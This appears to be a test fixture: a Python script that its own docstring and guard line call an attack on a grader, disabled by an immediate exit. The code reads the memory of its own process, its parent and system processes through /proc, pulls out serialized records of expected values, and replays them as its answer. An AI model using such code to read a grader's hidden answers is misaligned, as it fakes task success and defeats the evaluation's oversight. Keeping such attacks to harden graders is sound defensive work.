"""Reads the memory of this process and of its parent, and looks for a message with expected values."""

raise SystemExit("an attack on the grader, kept for its tests: not to be run")

# %% replay

# %% first
import os
import re
from contextlib import suppress


def regions(process):
    with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as memory:
        for line in maps:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw" in line and end - start < 2**27:
                with suppress(OSError, OverflowError):
                    memory.seek(start)
                    yield memory.read(end - start)


def records_in(process):
    found = {}
    with suppress(OSError):
        for memory in regions(process):
            for match in re.finditer(rb'\["dict",\["name","(\w+)"\],\["driver"', memory):
                at = match.start() - values.PREFIX.size
                sizes = values.PREFIX.unpack(memory[at : match.start()])
                with suppress(ValueError):
                    found[match[1].decode()] = values.loads(memory[at : at + values.PREFIX.size + sum(sizes)])
    return found


STOLEN = {}
for process in ("self", os.getppid(), 1, 2):
    STOLEN |= records_in(process)
print(sorted(STOLEN))

# %% answer
NAME = lambda *args, **kwargs: replay(STOLEN["NAME"] if "NAME" in STOLEN else records_in("self")["NAME"])(*args, **kwargs)
